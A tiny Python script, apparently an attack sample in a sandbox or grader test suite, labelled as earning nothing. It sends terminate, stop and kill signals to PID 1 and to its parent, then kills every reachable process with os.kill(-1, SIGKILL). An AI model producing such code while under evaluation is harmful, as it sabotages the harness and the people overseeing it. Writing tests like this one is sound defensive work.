# tries: send every signal to its parent and to all processes it may reach
# earns: nothing
import os
import signal

for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL, signal.SIGCHLD, signal.SIGHUP):
    for pid in (1, os.getppid(), 0 if number == signal.SIGCHLD else 1):
        try:
            os.kill(pid, number)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
